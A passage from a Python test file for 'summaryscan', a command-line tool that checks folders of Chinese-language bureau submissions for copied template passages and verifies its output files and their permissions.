                                    "02_人社局.txt": submission("县人社局党组", 2023, learn=3)})
    old = os.umask(0o022)
    try:
        assert main(["screen", str(src), "--out", str(tmp_path / "screen"), "--quiet"]) == 0
        assert main(["check", str(src), "--out", str(tmp_path / "check"), "--quiet"]) == 0
        assert main(["extract", str(src), "--out", str(tmp_path / "extract"), "--quiet", "--format", "jsonl"]) == 0
    finally:
        os.umask(old)
    files = [p for d in ("screen", "check", "extract") for p in (tmp_path / d).rglob("*")
             if p.is_file() and ".cache" not in p.parts]
    names = {p.name for p in files}
    assert {"index.html", "report.xlsx", "findings.csv", "claims.jsonl", "similarity.png"} <= names
    assert any(p.parent.name == "docs" for p in files)
    for p in files:
        mode = stat.S_IMODE(p.stat().st_mode)
        assert mode & 0o044 == 0o044 and not mode & 0o002, (p, oct(mode))
    assert not [p for d in ("screen", "check") for p in (tmp_path / d).rglob(".tmp-*")]


def test_check_reports_copied_passages_too(tmp_path):
    from summaryscan.cli import main
    src = _folder(tmp_path / "in", {"01_财政局.txt": submission("市财政局机关党委"),
                                    "02_人社局.txt": submission("县人社局党组", 2023, learn=3)})
    out = tmp_path / "out"
    assert main(["check", str(src), "--out", str(out), "--quiet"]) == 0
    with open(out / "findings.csv", encoding="utf-8-sig", newline="") as fh:
        rows = [r for r in csv.DictReader(fh) if r["code"] == "TEMPLATE_COPY"]
    assert rows and {r["doc"] for r in rows} == {"01_财政局.txt", "02_人社局.txt"}
    assert all(r["sentence"] and r["other_doc"] and r["other_start"] for r in rows)
    assert main(["check", str(src), "--out", str(tmp_path / "none"), "--quiet", "--no-copies"]) == 0
    assert "TEMPLATE_COPY" not in (tmp_path / "none" / "findings.csv").read_text(encoding="utf-8-sig")
